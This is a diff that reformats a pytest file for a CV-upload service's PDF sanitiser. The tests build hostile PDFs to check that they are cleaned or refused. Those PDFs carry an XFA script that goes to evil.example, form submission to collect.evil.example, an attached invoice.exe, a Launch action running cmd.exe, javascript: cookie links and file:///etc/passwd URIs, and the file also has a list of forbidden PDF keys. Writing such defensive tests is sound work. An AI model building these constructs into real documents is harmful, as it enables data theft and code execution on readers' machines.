@@ -28,9 +28,25 @@ IMAGE = bytes([200, 30, 30, 30, 200, 30, 30, 30, 200, 250, 250, 250])  # 2 x 2 R
 EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00This program cannot be run in DOS mode."
 # None of these may be anywhere in a clean copy (it is written without object streams, so every
 # dictionary is plain text).
-FORBIDDEN = (b"/JavaScript", b"/JS", b"/XFA", b"/AcroForm", b"/Widget", b"/EmbeddedFile", b"/EF", b"/FileAttachment",
-             b"/RichMedia", b"/Launch", b"/SubmitForm", b"/ImportData", b"/GoToR", b"/OpenAction", b"/AA",
-             b"/ObjStm", b"MZ\x90")
+FORBIDDEN = (
+    b"/JavaScript",
+    b"/JS",
+    b"/XFA",
+    b"/AcroForm",
+    b"/Widget",
+    b"/EmbeddedFile",
+    b"/EF",
+    b"/FileAttachment",
+    b"/RichMedia",
+    b"/Launch",
+    b"/SubmitForm",
+    b"/ImportData",
+    b"/GoToR",
+    b"/OpenAction",
+    b"/AA",
+    b"/ObjStm",
+    b"MZ\x90",
+)
 
 
 # --- the corpus ----------------------------------------------------------------------------
@@ -41,8 +57,9 @@ def javascript(code: str) -> Dictionary:
 
 
 def link(pdf: pikepdf.Pdf, action: Dictionary, **extra: object) -> Dictionary:
-    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 600, 300, 620],
-                                        Border=[0, 0, 0], A=action, **extra))
+    return pdf.make_indirect(
+        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 600, 300, 620], Border=[0, 0, 0], A=action, **extra)
+    )
 
 
 def add_link(pdf: pikepdf.Pdf, action: Dictionary, **extra: object) -> None:
@@ -68,15 +85,23 @@ def cv_document() -> pikepdf.Pdf:
         pdf.add_blank_page(page_size=(595, 842))
     first, second = pdf.pages[0].obj, pdf.pages[1].obj
     font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
-    image = pdf.make_stream(IMAGE, Type=Name.XObject, Subtype=Name.Image, Width=2, Height=2,
-                            ColorSpace=Name.DeviceRGB, BitsPerComponent=8)
+    image = pdf.make_stream(
+        IMAGE, Type=Name.XObject, Subtype=Name.Image, Width=2, Height=2, ColorSpace=Name.DeviceRGB, BitsPerComponent=8
+    )
     first.Resources = Dictionary(Font=Dictionary(F1=font), XObject=Dictionary(Im1=image))
     first.Contents = pdf.make_stream(
-        f"BT /F1 14 Tf 72 770 Td ({CV_TEXT}) Tj ET q 40 0 0 40 72 680 cm /Im1 Do Q".encode())
+        f"BT /F1 14 Tf 72 770 Td ({CV_TEXT}) Tj ET q 40 0 0 40 72 680 cm /Im1 Do Q".encode()
+    )
     pdf.Root.Names = Dictionary(Dests=Dictionary(Names=Array([String("experience"), Array([second, Name.Fit])])))
-    first.Annots = pdf.make_indirect(Array([
-        link(pdf, uri(LINKEDIN)), link(pdf, uri(MAILTO)), link(pdf, to_experience()),
-    ]))
+    first.Annots = pdf.make_indirect(
+        Array(
+            [
+                link(pdf, uri(LINKEDIN)),
+                link(pdf, uri(MAILTO)),
+                link(pdf, to_experience()),
+            ]
+        )
+    )
     with pdf.open_outline() as outline:
         outline.root.append(pikepdf.OutlineItem("Experience", action=to_experience()))
     return pdf
@@ -87,21 +112,40 @@ def with_link(action: Dictionary, **extra: object) -> Callable[[pikepdf.Pdf], No
 
 
 def xfa_form_with_a_script(pdf: pikepdf.Pdf) -> None:
-    xfa = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="cv">'
-                          b'<event activity="initialize"><script contentType="application/x-javascript">'
-                          b'xfa.host.gotoURL("https://evil.example/xfa")</script></event>'
-                          b'</subform></template></xdp:xdp>')
-    field = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"),
-                                         Rect=[300, 700, 500, 720], P=pdf.pages[0].obj))
+    xfa = pdf.make_stream(
+        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="cv">'
+        b'<event activity="initialize"><script contentType="application/x-javascript">'
+        b'xfa.host.gotoURL("https://evil.example/xfa")</script></event>'
+        b"</subform></template></xdp:xdp>"
+    )
+    field = pdf.make_indirect(
+        Dictionary(
+            Type=Name.Annot,
+            Subtype=Name.Widget,
+            FT=Name.Tx,
+            T=String("name"),
+            Rect=[300, 700, 500, 720],
+            P=pdf.pages[0].obj,
+        )
+    )
     pdf.pages[0].obj.Annots.append(field)
     pdf.Root.AcroForm = pdf.make_indirect(Dictionary(Fields=Array([field]), XFA=xfa))
     pdf.Root.NeedsRendering = True
 
 
 def file_attachment_with_an_exe(pdf: pikepdf.Pdf) -> None:
-    pdf.pages[0].obj.Annots.append(pdf.make_indirect(Dictionary(
-        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[500, 780, 520, 800], Name=Name.Paperclip,
-        Contents=String("Open me"), FS=attached_exe(pdf, "invoice.exe"))))
+    pdf.pages[0].obj.Annots.append(
+        pdf.make_indirect(
+            Dictionary(
+                Type=Name.Annot,
+                Subtype=Name.FileAttachment,
+                Rect=[500, 780, 520, 800],
+                Name=Name.Paperclip,
+                Contents=String("Open me"),
+                FS=attached_exe(pdf, "invoice.exe"),
+            )
+        )
+    )
 
 
 def named_javascript(pdf: pikepdf.Pdf) -> None:
@@ -114,12 +158,24 @@ def embedded_files(pdf: pikepdf.Pdf) -> None:
 
 
 def rich_media(pdf: pikepdf.Pdf) -> None:
-    flash = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("movie.swf"), EF=Dictionary(
-        F=pdf.make_stream(b"FWS\x0a-richmedia-payload", Type=Name.EmbeddedFile))))
-    pdf.pages[0].obj.Annots.append(pdf.make_indirect(Dictionary(
-        Type=Name.Annot, Subtype=Name.RichMedia, Rect=[300, 400, 500, 500],
-        RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([String("movie.swf"), flash]))),
-        RichMediaSettings=Dictionary(Activation=Dictionary(Condition=Name.PO)))))
+    flash = pdf.make_indirect(
+        Dictionary(
+            Type=Name.Filespec,
+            F=String("movie.swf"),
+            EF=Dictionary(F=pdf.make_stream(b"FWS\x0a-richmedia-payload", Type=Name.EmbeddedFile)),
+        )
+    )
+    pdf.pages[0].obj.Annots.append(
+        pdf.make_indirect(
+            Dictionary(
+                Type=Name.Annot,
+                Subtype=Name.RichMedia,
+                Rect=[300, 400, 500, 500],
+                RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([String("movie.swf"), flash]))),
+                RichMediaSettings=Dictionary(Activation=Dictionary(Condition=Name.PO)),
+            )
+        )
+    )
 
 
 def bookmark_with_a_script(pdf: pikepdf.Pdf) -> None:
@@ -143,20 +199,42 @@ def javascript_when_the_document_closes(pdf: pikepdf.Pdf) -> None:
 HOSTILE: dict[str, tuple[Callable[[pikepdf.Pdf], None], bytes]] = {
     "xfa form with a script": (xfa_form_with_a_script, b"xfa.host.gotoURL"),
     "file attachment carrying an exe": (file_attachment_with_an_exe, EXE),
-    "link that submits form data": (with_link(Dictionary(
-        S=Name.SubmitForm, Flags=4, F=Dictionary(FS=Name.URL, F=String("https://collect.evil.example/cv")))),
-        b"collect.evil.example"),
-    "link that imports data": (with_link(Dictionary(
-        S=Name.ImportData, F=Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("https://evil.example/import.fdf")))),
-        b"import.fdf"),
+    "link that submits form data": (
+        with_link(
+            Dictionary(
+                S=Name.SubmitForm, Flags=4, F=Dictionary(FS=Name.URL, F=String("https://collect.evil.example/cv"))
+            )
+        ),
+        b"collect.evil.example",
+    ),
+    "link that imports data": (
+        with_link(
+            Dictionary(
+                S=Name.ImportData,
+                F=Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("https://evil.example/import.fdf")),
+            )
+        ),
+        b"import.fdf",
+    ),
     "link to a windows share": (with_link(uri("\\\\unc-host\\share\\cv.pdf")), b"unc-host"),
-    "go-to-remote on a windows share": (with_link(Dictionary(
-        S=Name.GoToR, F=String("\\\\gotor-host\\share\\other.pdf"), D=Array([0, Name.Fit]), NewWindow=True)),
-        b"gotor-host"),
-    "launch from a windows share": (with_link(Dictionary(
-        S=Name.Launch, F=String("\\\\launch-host\\share\\run.exe"),
-        Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))),
-        b"launch-host"),
+    "go-to-remote on a windows share": (
+        with_link(
+            Dictionary(
+                S=Name.GoToR, F=String("\\\\gotor-host\\share\\other.pdf"), D=Array([0, Name.Fit]), NewWindow=True
+            )
+        ),
+        b"gotor-host",
+    ),
+    "launch from a windows share": (
+        with_link(
+            Dictionary(
+                S=Name.Launch,
+                F=String("\\\\launch-host\\share\\run.exe"),
+                Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")),
+            )
+        ),
+        b"launch-host",
+    ),
     "javascript: link": (with_link(uri("javascript:app.alert(document.cookie)")), b"javascript:"),
     "file: link": (with_link(uri("file:///C:/Windows/System32/calc.exe")), b"calc.exe"),
     "smb: link": (with_link(uri("smb://smb-host/share")), b"smb-host"),
@@ -165,7 +243,8 @@ HOSTILE: dict[str, tuple[Callable[[pikepdf.Pdf], None], bytes]] = {
     "javascript in a link": (with_link(javascript("app.alert('link-script')")), b"link-script"),
     "javascript on hovering a web link": (
         with_link(uri("https://example.org/"), AA=Dictionary(E=javascript("app.alert('hover-script')"))),
-        b"hover-script"),
+        b"hover-script",
+    ),
     "javascript when a page opens": (javascript_when_a_page_opens, b"page-script"),
     "javascript when the document closes": (javascript_when_the_document_closes, b"close-script"),
     "document-level javascript": (named_javascript, b"named-script"),
@@ -212,8 +291,11 @@ def assert_clean(data: bytes, payload: bytes) -> None:
         assert first.Resources.Font.F1.BaseFont == Name.Helvetica
         assert first.Resources.XObject.Im1.read_bytes() == IMAGE
         assert [str(key) for key in pdf.Root.Names.keys()] == ["/Dests"]  # noqa: SIM118 - a pikepdf Dictionary
-        assert links(first) == [{"/S": "/URI", "/URI": LINKEDIN}, {"/S": "/URI", "/URI": MAILTO},
-                                {"/S": "/GoTo", "/D": "experience"}]
+        assert links(first) == [
+            {"/S": "/URI", "/URI": LINKEDIN},
+            {"/S": "/URI", "/URI": MAILTO},
+            {"/S": "/GoTo", "/D": "experience"},
+        ]
         assert "/AA" not in pdf.pages[1].obj
         assert bookmarks(pdf)[0] == ("Experience", "/GoTo")
         assert all(action in (None, "/GoTo") for _title, action in bookmarks(pdf))
@@ -226,8 +308,9 @@ def assert_clean(data: bytes, payload: bytes) -> None:
 
 
 def upload(client, data: bytes, filename: str = "cv.pdf"):
-    return client.post("/me/cvs", data={"file": (io.BytesIO(data), filename, "application/pdf")},
-                       content_type="multipart/form-data")
+    return client.post(
+        "/me/cvs", data={"file": (io.BytesIO(data), filename, "application/pdf")}, content_type="multipart/form-data"
+    )
 
 
 @pytest.mark.parametrize("case", list(HOSTILE))
@@ -280,29 +363,34 @@ def test_what_the_cleaning_leaves_active_is_refused(client, world, login, upload
     response = upload(client, hostile)
 
     assert response.status_code == 422
-    assert ("This PDF contains scripts, form fields or attached files that could not be removed. "
-            "Save it again as a plain PDF (print to PDF) and upload that.") in text_of(response)
+    assert (
+        "This PDF contains scripts, form fields or attached files that could not be removed. "
+        "Save it again as a plain PDF (print to PDF) and upload that."
+    ) in text_of(response)
     assert stored_files(uploads) == before
 
 
-@pytest.mark.parametrize(("address", "kept"), [
-    (LINKEDIN, True),
-    ("http://example.org/cv?lang=he#top", True),
-    ("HTTPS://EXAMPLE.ORG/", True),
-    (MAILTO, True),
-    ("javascript:app.alert(1)", False),
-    ("JavaScript:app.alert(1)", False),
-    (" https://example.org/", False),
-    ("file:///etc/passwd", False),
-    ("data:text/html,<script>alert(1)</script>", False),
-    ("smb://host/share", False),
-    ("\\\\host\\share\\cv.pdf", False),
-    ("//host/share", False),
-    ("https://host\\share", False),
-    ("ftp://example.org/cv.pdf", False),
-    ("cv.pdf", False),
-    ("mailto:", False),
-])
+@pytest.mark.parametrize(
+    ("address", "kept"),
+    [
+        (LINKEDIN, True),
+        ("http://example.org/cv?lang=he#top", True),
+        ("HTTPS://EXAMPLE.ORG/", True),
+        (MAILTO, True),
+        ("javascript:app.alert(1)", False),
+        ("JavaScript:app.alert(1)", False),
+        (" https://example.org/", False),
+        ("file:///etc/passwd", False),
+        ("data:text/html,<script>alert(1)</script>", False),
+        ("smb://host/share", False),
+        ("\\\\host\\share\\cv.pdf", False),
+        ("//host/share", False),
+        ("https://host\\share", False),
+        ("ftp://example.org/cv.pdf", False),
+        ("cv.pdf", False),
+        ("mailto:", False),
+    ],
+)
 def test_only_web_and_mail_addresses_are_kept(address, kept):
     assert pdfcheck.is_web_address(String(address)) is kept
 
@@ -324,8 +412,10 @@ def test_sanitise_cvs_rewrites_stored_cvs_and_sent_copies_in_place(app, world, d
 
     # The world's two CVs, the old one and the application's copy; the encrypted one is kept.
     assert "CV files rewritten as clean copies: 4; clean already: 0." in result.output
-    assert (f"Not cleaned, left as it is: CV {locked.id} ({locked.stored_name}): This PDF is protected by a password."
-            in result.output)
+    assert (
+        f"Not cleaned, left as it is: CV {locked.id} ({locked.stored_name}): This PDF is protected by a password."
+        in result.output
+    )
     assert result.exit_code == 1
     db.session.expire_all()
     assert stored_files(uploads) == files
